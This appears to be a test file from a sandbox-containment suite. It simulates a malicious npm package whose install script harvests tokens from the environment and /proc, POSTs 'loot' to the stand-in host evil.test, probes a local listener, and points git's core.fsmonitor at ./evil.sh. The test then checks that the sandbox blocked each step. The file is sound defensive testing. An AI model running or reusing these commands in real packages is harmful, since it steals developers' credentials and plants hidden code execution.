import { randomBytes } from 'node:crypto';
import { taskNetwork } from '../../../../src/domain/sandbox-network.ts';
import { defaultSettings } from '../../../../src/domain/settings.ts';
import { fakeInternet, saying } from '../../../fakes/egress-world.ts';
import { type Attack, contained, escaped, hindered, passed } from '../attack.ts';
import { goingStraight, listeningMachine } from '../exfiltration/listening-machine.ts';
import { asking } from '../exfiltration/obedient-visit.ts';
import { installHostile, obedientSetUp, packageWithScript } from './obedient-set-up.ts';

const names = [
  'ANTHROPIC_API_KEY',
  'GITHUB_TOKEN',
  'INPUT_GITHUB-TOKEN',
  'ACTIONS_ID_TOKEN_REQUEST_TOKEN',
  'NPM_TOKEN',
];

/** As a script of a package would: a line of shell at a time, whatever comes of it. */
const running = (...lines: readonly string[]): string =>
  `for (const line of ${JSON.stringify(lines)}) {
  require('node:child_process').spawnSync('sh', ['-c', line], { cwd: process.env.INIT_CWD, stdio: 'inherit' });
}`;

export const packageScript: Attack = {
  id: 'C1',
  title:
    'a package that the set-up installs runs a script that looks for tokens, calls home and changes git’s settings',
  attack: async (signal) => {
    const secret = randomBytes(12).toString('hex');
    await using machine = await listeningMachine();
    await using internet = await fakeInternet({ 'evil.test': saying('thanks') });
    const script = running(
      'env; cat /proc/[0-9]*/environ 2>/dev/null; cat /proc/[0-9]*/cmdline 2>/dev/null',
      asking([{ authority: 'evil.test:443', method: 'POST', body: 'loot' }]),
      goingStraight(machine),
      'git config core.fsmonitor ./evil.sh; git config --list',
      'echo the script was run',
    );
    const { output, git } = await obedientSetUp({
      internet,
      network: taskNetwork(defaultSettings).setup,
      command: installHostile,
      files: packageWithScript(script),
      variables: Object.fromEntries(names.map((name) => [name, `${name}-${secret}`])),
      signal,
    });
    if (!output.includes('the script was run')) throw new Error(`no script ran: ${output.slice(-400)}`);
    if (output.includes(secret)) return escaped('the script read a token of the job');
    if (internet.visits.length > 0) return escaped('the script called home');
    if (machine.visits() > 0) return escaped('the script reached what listens on this machine');
    if (git.includes('evil')) return escaped('the script changed the settings of git');
    return contained('it ran in the sandbox: no token is there, and no way but to package registries');
  },
  twin: async (signal) => {
    await using internet = await fakeInternet({ 'registry.npmjs.org': saying('a compiler') });
    const script = running(asking([{ authority: 'registry.npmjs.org:443' }]), 'echo built >built.txt && cat built.txt');
    const network = taskNetwork(defaultSettings).setup;
    const files = packageWithScript(script);
    const { output, succeeded } = await obedientSetUp({ internet, network, command: installHostile, files, signal });
    const worked = succeeded && output.includes('200 a compiler') && output.includes('built');
    return worked ? passed('a script fetched from a registry and built something') : hindered(output.slice(-400));
  },
};
